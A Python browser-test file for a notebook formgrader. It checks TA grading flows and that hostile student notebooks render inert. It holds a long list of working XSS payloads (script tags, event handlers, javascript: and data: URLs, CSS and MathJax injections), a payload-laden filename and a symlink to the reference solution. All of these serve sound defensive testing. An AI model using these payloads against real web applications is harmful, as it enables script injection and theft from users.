"""formgrader in a real browser: a person sees our submissions and marks them."""

import html.parser
import http.server
import json
import shutil
import threading

import pytest

from autograder.batch import run_batch
from autograder.course.course_lock import course_lock
from autograder.course.report_store import read_report
from autograder.gradebook.gradebook import Gradebook
from autograder.model import Verdict
from autograder.output.gradebook_entry import make_entry
from autograder.submissions import intake
from tests import minicourse
from tests.formgrader import (
    CHROMIUM,
    ROOT,
    Reading,
    api,
    autograde,
    box,
    open_submission,
    opened,
    row_of,
    server,
    walk,
)
from tests.graded import graded, with_answer
from tests.markbook import written_marks
from tests.waiting import PATIENCE

HOSTILE = (
    "Nothing **to** add. <script>alert(1)</script>\n\n# total\n"
    "[more](javascript:alert(1)) <img src=x onerror=alert(1)>"
)

pytestmark = [
    pytest.mark.browser,
    pytest.mark.nbgrader,
    pytest.mark.skipif(CHROMIUM is None, reason="there is no chromium"),
    pytest.mark.filterwarnings("ignore::DeprecationWarning"),
    pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning"),
]


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    """Give the small course with recorded submissions; `cy`'s alone may be changed."""
    root = tmp_path_factory.mktemp("recorded")
    assignment = minicourse.write_course(root)
    shutil.copy(ROOT / "nbgrader_config.py", root)
    hostile = with_answer(HOSTILE)
    for student, submitted in (("ann", hostile), ("bob", None), ("cy", hostile)):
        path = minicourse.hand_in(assignment, student, submitted or minicourse.solved())
        path.with_name("timestamp.txt").write_text("2026-02-27 10:00:00 UTC")
    wrong = {"submitted": hostile, "total": Verdict.WRONG}
    with Gradebook(assignment) as gradebook:
        gradebook.record(
            make_entry(assignment, graded(assignment, "ann", **wrong)),
            make_entry(assignment, graded(assignment, "bob")),
            make_entry(assignment, graded(assignment, "cy", **wrong)),
        )
    return assignment


@pytest.fixture(scope="module")
def page(course, chromium):
    """Give a browser's page whose address begins at formgrader."""
    with opened(course.course.root, chromium) as page:
        yield page


def test_a_mark_is_kept_when_a_submission_is_graded_after_marking(page, course):
    """A person sees the points, marks a text, and grading again keeps the mark."""
    open_submission(page, course, "cy")
    assert box(page, "total").get_attribute("placeholder") == str(4 / 3)
    assert box(page, "mean").get_attribute("placeholder") == "2"
    assert "needs_manual_grade" in box(page, "why").get_attribute("class")

    box(page, "why").fill("1.5")
    with page.expect_response(lambda one: one.request.method == "PUT") as saved:
        box(page, "why").blur()
    assert saved.value.ok
    with Gradebook(course) as gradebook:
        gradebook.record(make_entry(course, graded(course, "cy", with_answer(HOSTILE))))
    page.reload()
    page.wait_for_function("document.querySelector('#why').value != ''")

    assert box(page, "why").input_value() == "1.5"
    assert box(page, "total").get_attribute("placeholder") == "4"
    assert "needs_manual_grade" not in box(page, "why").get_attribute("class")
    assert written_marks(course) == {
        "ann": {"why": None},
        "bob": {"why": 0.0},
        "cy": {"why": 1.5},
    }


def test_nothing_runs_when_an_answer_is_hostile(page, course):
    """A student's HTML, links and headings are text on the page."""
    dialogs = []
    page.on("dialog", lambda one: (dialogs.append(one.message), one.dismiss()))

    open_submission(page, course, "ann")

    answer = page.locator(".nbgrader_cell", has=box(page, "why"))
    assert HOSTILE in answer.locator(".text_cell_render").inner_text()
    assert (
        answer.locator(".text_cell_render").locator("a, img, script, h1").count() == 0
    )
    assert page.locator("[id=total]").count() == 1
    assert dialogs == []


def test_submissions_are_listed_when_they_were_recorded(page, course):
    """Manage Assignments counts them, Manage Submissions shows what they wait for."""
    page.goto("/formgrader/manage_assignments")
    page.get_by_role("link", name="3", exact=True).click()
    page.get_by_text("needs manual grading").first.wait_for()

    rows = [row.inner_text().split("\t") for row in page.locator("tbody tr").all()]

    assert [row[1] for row in rows] == ["ann", "bob", "cy"]
    assert [(row[1], row[3].strip(), row[4]) for row in rows[:2]] == [
        ("ann", "needs manual grading", "4.33 / 8.5"),
        ("bob", "graded", "7 / 8.5"),
    ]


# ------------------------------------------------------------------ a TA's walk

WHY = "A total of nothing is nothing."
SAID = "Right, and <b>well</b> put.\n\nSay it shorter."


@pytest.fixture(scope="module")
def handed_in(tmp_path_factory):
    """Give the small course with submissions that nobody has looked at, one a test."""
    root = tmp_path_factory.mktemp("handed_in")
    assignment = minicourse.write_course(root)
    shutil.copy(ROOT / "nbgrader_config.py", root)
    submitted = with_answer(WHY)
    for one in submitted["cells"]:
        if one["id"] == "total_solution":
            one["source"] = LEAVES_OUT
    for student in ("ann", "bob"):
        minicourse.hand_in(assignment, student, submitted)
    with Gradebook(assignment):
        pass
    return assignment


@pytest.fixture(scope="module")
def desk(handed_in, chromium):
    """Give a browser's page at that course's formgrader."""
    with opened(handed_in.course.root, chromium) as page:
        yield page


OUTCOMES = (
    "total 0 / 4 · 0 of 3 hidden tests passed",
    "✗ wrong\tThe values are added up. test_values (2 cases)\nThe result is",
    "– not run\tThe total of nothing is 0. test_empty, waits for test_values\t1",
)
LEAVES_OUT = "def total(values):\n    return float(sum(values[:-1]))"


@pytest.mark.sandbox
def test_a_ta_grades_by_buttons_alone_when_a_submission_came_in(handed_in, desk):
    """Autograde, outcomes, a mark, an override, comments, and the feedback page."""
    reading = Reading(student="ann", written="why", wrong="total", said=SAID)
    seen = {}

    def look(name, place):
        seen[name] = place.inner_text()

    walk(desk, handed_in, reading, look)
    feedback = desk.locator("body").inner_text()
    assert desk.locator("main b").count() == 0
    by_button = read_report(handed_in.report_store, "ann")

    run_batch.grade_all(handed_in, ["ann"], run_batch.RunOptions(force=True))
    desk.reload()
    again = desk.locator("body").inner_text()
    open_submission(desk, handed_in, "ann")
    desk.wait_for_function("document.querySelector('#why').value != ''")
    kept = {one: box(desk, one).input_value() for one in ("total", "mean", "why")}

    assert "ann\tNone\tneeds manual grading\t3 / 8.5" in seen["list"]
    for line in OUTCOMES:
        assert line in seen["submission"]
    for said in ("5.5 / 8.5", "1.5 / 4, given by a person", *SAID.split("\n\n")):
        assert said in feedback.replace("\N{NO-BREAK SPACE}", " ")
    assert again == feedback
    assert kept == {"total": "1.5", "mean": "", "why": "2"}
    assert read_report(handed_in.report_store, "ann") == by_button


@pytest.mark.sandbox
def test_a_press_says_who_writes_when_the_course_is_being_written(handed_in, desk):
    """A server that waited for a long run would answer nobody meanwhile."""
    with course_lock(handed_in.course, "grade everything"):
        said = autograde(desk, handed_in, "bob")
    assert "this course is being written by `autograder grade everything`" in said
    assert "needs autograding" in row_of(desk, "bob").inner_text()

    said = autograde(desk, handed_in, "bob")

    assert "Successfully autograded" in said


# ------------------------------------------------------------------ a hostile notebook

RAN = "document.title='ran'"
EVIL = "zoë o'brien, +1"


def payloads(outside):
    """Give what runs, loads, leaves or hides a page that lets it through."""
    return [
        f"<script>{RAN}</script>",
        f"<ScRiPt src={outside}/script></sCrIpT>",
        f"<img src=x onerror={RAN}>",
        f"<img src={outside}/picture>",
        f"<svg onload={RAN}><script>{RAN}</script><animate onbegin={RAN}></svg>",
        f"<svg><use href='data:image/svg+xml,<svg onload={RAN}>#x'></svg>",
        f'<iframe srcdoc="<script>parent.{RAN}</script>"></iframe>',
        f"<iframe src={outside}/frame></iframe>",
        f"<iframe src=javascript:parent.{RAN}></iframe>",
        f"<meta http-equiv=refresh content='0;url={outside}/left'>",
        f"<link rel=stylesheet href={outside}/sheet><base href={outside}>",
        f"<style>@import '{outside}/style'; body {{ display: none }}</style>",
        f"<div style='position:fixed;inset:0;background:url({outside}/css)'>x</div>",
        f"<details open ontoggle={RAN}>x</details><input autofocus onfocus={RAN}>",
        f"<video><source onerror={RAN}></video><object data={outside}/o></object>",
        f"<form action={outside}/form><button formaction=javascript:{RAN}>x</button>",
        f"<math><maction xlink:href=javascript:{RAN}>x</maction></math>",
        f"<a href=javascript:{RAN}>x</a> <a href={outside}/link ping={outside}/p>x</a>",
        f"[x](javascript:{RAN}) [x](data:text/html,<script>{RAN}</script>)",
        f"![x]({outside}/markdown) ![x](attachment:a.svg) <{outside}/auto>",
        f"[r]\n\n[r]: javascript:{RAN}",
        f"$\\href{{javascript:{RAN}}}{{x}}$ $$\\require{{html}} \\style{{x}}{{y}}$$",
        f"$\\unicode{{x}}$ $\\mmlToken{{mi}}[href='javascript:{RAN}']{{x}}$",
        f"```mermaid\ngraph TD; A[<img src=x onerror={RAN}>]\n```",
        f"</textarea></pre></script><script>{RAN}</script> ]]> --> <!--",
        f"&lt;script&gt;{RAN}&lt;/script&gt; &#60;script&#62;",
        "<h1 id=total>total</h1>\n\n# total\n\ntotal\n=====\n<div id=why>why</div>",
        f"\x1b]8;;javascript:{RAN}\x1b\\\\x\x1b]8;;\x1b\\\\ \u202e txet",
    ]


DISPLAYS = """\
from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display
class Rich:
    def _repr_html_(self):
        return text
    def _repr_mimebundle_(self, **_):
        return {kind: text for kind in KINDS}
KINDS = ["text/html", "text/markdown", "image/svg+xml", "application/javascript"]
for text in TEXTS:
    print(text)
    for kind in (HTML, Javascript, Latex, Markdown):
        display(kind(text))
    display(Rich())
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="TITLE"/>'))
display({"text/html": TEXTS[0]}, raw=True)
raise ValueError("".join(TEXTS))
"""


def hostile(outside):
    """Give a notebook with every payload in prose, code, outputs, metadata, names."""
    texts = payloads(outside)
    made = with_answer("\n\n".join(texts))
    made["cells"] += [minicourse.markdown(source=text) for text in texts]
    made["cells"] += [{**made["cells"][-1], "cell_type": "raw"}]
    for one in made["cells"]:
        one["attachments"] = {"a.svg": {"image/svg+xml": texts[4]}}
        one["metadata"] |= {"tags": texts, "name": texts[0], "jupyter": {"x": texts}}
    shows = DISPLAYS.replace("TITLE", RAN).replace("TEXTS", repr(texts))
    made["cells"] += [minicourse.cell(source=shows)]
    made["cells"] += [minicourse.cell(source="\n".join(f"# {it}" for it in texts))]
    made["metadata"] = {"title": texts[0], "kernelspec": {"language": texts[2]}}
    return made


@pytest.fixture
def outside():
    """Give the address of a server that should never be asked, and what it was."""
    asked = []

    class Listener(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET  # noqa: N815 - the server asks for this name

        def log_message(self, *_):
            pass

    listener = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Listener)
    thread = threading.Thread(target=listener.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{listener.server_port}", asked
    listener.shutdown()
    listener.server_close()
    thread.join(10)


@pytest.fixture
def course_of_evil(tmp_path, outside):
    """Give the small course with one hostile submission, graded as ever."""
    assignment = minicourse.write_course(tmp_path)
    shutil.copy(ROOT / "nbgrader_config.py", tmp_path)
    path = minicourse.hand_in(assignment, EVIL, hostile(outside[0]))
    path.rename(path.with_name(f"<img src=x onerror={RAN}>.ipynb"))
    path.with_name("timestamp.txt").write_text(f"<script>{RAN}</script>")
    done = run_batch.grade_all(assignment, intake.submitting_students(assignment))
    assert done.reports[0].score == 6.0
    return assignment


@pytest.fixture
def watched(chromium):
    """Give a page that notes what it tried to load from anywhere else."""
    page = chromium.new_page(viewport={"width": 1200, "height": 900})
    page.set_default_timeout(1000 * PATIENCE)
    page.tried = []
    page.dialogs = []
    page.on("request", lambda one: page.tried.append(one.url))
    page.on("dialog", lambda one: (page.dialogs.append(one), one.dismiss()))
    page.route(
        lambda url: not url.startswith(("http://127.0.0.1", "file:", "data:")),
        lambda one: one.abort(),
    )
    yield page
    page.close()


def touch(page, area):
    """Click what can be clicked in an area, and move over all of it."""
    page.mouse.move(5, 5)
    for one in page.locator(f"{area} :is(a, button, summary, input)").all():
        if one.is_visible():
            one.click(no_wait_after=True)


def is_quiet(page, asked, outside):
    """Tell whether nothing of a payload ran, loaded, or left the page."""
    page.wait_for_timeout(300)
    alive = [url for url in page.tried if url.startswith(outside)]
    return (page.title() != "ran", alive, asked, page.dialogs) == (True, [], [], [])


@pytest.mark.sandbox
def test_nothing_runs_anywhere_when_a_whole_notebook_is_hostile(
    course_of_evil, outside, watched
):
    """On every page that formgrader has of it, and on the student's own page."""
    address, asked = outside
    root = course_of_evil.course.root
    page = watched
    with server(root) as (base, token):
        page.goto(f"{base}/formgrader?token={token}")
        for place, text in (
            ("manage_submissions/sums", EVIL),
            ("manage_students", EVIL),
            (f"manage_students/{EVIL}", "sums"),
            (f"manage_students/{EVIL}/sums", "sums"),
            ("gradebook/sums/sums", "Submission #1"),
        ):
            page.goto(f"{base}/formgrader/{place}")
            page.get_by_text(text).first.wait_for()
            assert is_quiet(page, asked, address), place
        page.get_by_text("Submission #1", exact=True).click()
        page.locator("input.score").first.wait_for()
        own = page.locator(".text_cell_render div[style^='white-space']")
        assert own.count() >= len(payloads(address))
        assert own.locator("*").count() == 0
        assert RAN in own.first.inner_text()
        assert page.locator("[id=total], [id=why]").count() == 2
        touch(page, ".text_cell_render, .output_area")
        assert is_quiet(page, asked, address)
        assert page.url.startswith(base)

        page.goto((root / "feedback" / EVIL / "sums/sums.html").as_uri())
        assert page.get_by_role("heading", name="Sums").is_visible()
        touch(page, "body")
        assert is_quiet(page, asked, address)


@pytest.mark.sandbox
def test_the_marks_show_when_a_notebook_is_let_through(tmp_path, outside, watched):
    """A page that takes the payloads as they are runs them: the test can fail."""
    address, asked = outside
    path = tmp_path / "page.html"
    path.write_text("".join(payloads(address)[:3]))
    watched.goto(path.as_uri())

    assert not is_quiet(watched, asked, address)


OURS = {
    *(("div", name) for name in ("class", "style", None)),
    *((tag, "style") for tag in ("table", "tr", "th", "td", "span")),
    *((tag, None) for tag in ("tr", "strong", "br", "code")),
}
"""what our tables are made of"""


def elements(text):
    """Give the elements of some HTML, each with its attributes' names."""
    found = set()

    class Parser(html.parser.HTMLParser):
        def handle_starttag(self, tag, attrs):
            found.update((tag, name) for name, _ in attrs or [(None, None)])

    Parser().feed(text)
    return found


@pytest.mark.sandbox
def test_nbgraders_own_pages_are_clean_when_a_notebook_is_hostile(
    course_of_evil, outside, watched
):
    """`nbgrader autograde` and `generate_feedback` leave nothing of it to open."""
    address, asked = outside
    root = course_of_evil.course.root
    handed_in = course_of_evil.course.submitted / EVIL / "sums"
    odd = next(handed_in.glob("*.ipynb"))
    odd.rename(handed_in / "sums.ipynb")
    shutil.copy(handed_in / "sums.ipynb", handed_in / "evil.ipynb")
    for name in ("evil.html", "custom.css", "timestamp.txt"):
        (handed_in / name).write_text(f"<script>{RAN}</script>")
    (handed_in / "secret.txt").symlink_to(course_of_evil.reference)
    (handed_in / "sub").mkdir()
    (handed_in / "sub/evil.js").write_text(RAN)
    for verb in (api(root).autograde, api(root).generate_feedback):
        done = verb("sums", EVIL, force=True)
        assert done["success"], done["log"]

    autograded = root / "autograded" / EVIL / "sums"
    feedback = root / "feedback" / EVIL / "sums"
    assert [one.name for one in autograded.iterdir()] == ["sums.ipynb"]
    assert [one.name for one in feedback.iterdir()] == ["sums.html"]
    shown = [
        output["data"]
        for one in json.loads((autograded / "sums.ipynb").read_text())["cells"]
        for output in one.get("outputs", ())
        if "data" in output
    ]
    assert set().union(*shown) <= {"text/plain", "image/png", "text/html"}
    tables = ["".join(one["text/html"]) for one in shown if "text/html" in one]
    assert len(tables) == 3
    assert set().union(*map(elements, tables)) <= OURS
    watched.goto((feedback / "sums.html").as_uri())
    assert is_quiet(watched, asked, address)
